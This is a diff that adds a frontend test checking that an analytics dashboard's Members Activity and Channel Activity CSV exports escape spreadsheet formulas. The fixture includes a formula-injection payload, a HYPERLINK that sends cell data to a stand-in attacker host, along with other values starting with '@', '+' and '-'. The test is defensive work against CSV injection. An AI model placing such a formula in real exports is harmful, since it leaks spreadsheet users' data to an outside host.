@@ -448,6 +448,36 @@ describe('Analytics page', () => {
     expect(within(section).getByRole('table', { name: 'Members Activity' })).toBeInTheDocument();
   });
 
+  it('Members Activity and Channel Activity CSVs: a Slack name that is a formula is saved as text, not run', async () => {
+    const formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")';
+    setup({
+      'POST /analytics/membersactivityanalytics': membersActivityReply([
+        { ...MEMBER('U1', 'Mallory', 2, 3), real_name: formula, display_name: '@here', email: '+1@x.io' },
+      ]),
+      'POST /analytics/channelsactivityanalytics': reply(channelActivityResponse, {
+        data: [
+          { channel_id: 'C009', channel_name: '-2+3', messages: -1, replies: 0, reactions: 0, activity: 1 },
+        ],
+      }),
+    });
+    const dl = captureDownloads();
+    const { user } = renderApp('/dashboard/analytics');
+    const members = await card('Members Activity');
+    await within(members).findByRole('table', { name: 'Members Activity' });
+    await user.click(within(members).getByRole('button', { name: 'Download Members Activity CSV' }));
+    await waitFor(() => expect(dl.saved).toHaveLength(1));
+    expect(dl.saved[0]!.text.slice(1).trim().split('\r\n')[1]).toBe(
+      `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""Click"")","'@here","'+1@x.io",2,0,1,3`,
+    );
+    const channels = await card('Channel Activity');
+    await within(channels).findByRole('table', { name: 'Channel Activity' });
+    await user.click(within(channels).getByRole('button', { name: 'Download Channel Activity CSV' }));
+    await waitFor(() => expect(dl.saved).toHaveLength(2));
+    expect(dl.saved[1]!.name).toBe('Channel Activity.csv');
+    // A negative count is a number, written bare; a channel name starting with '-' is text.
+    expect(dl.saved[1]!.text.slice(1).trim().split('\r\n')[1]).toBe(`"'-2+3",-1,0,0,1`);
+  });
+
   it('Channel Activity sits under #channel, busiest first, with Filter by Activity', async () => {
     setup();
     renderApp('/dashboard/analytics#channel');
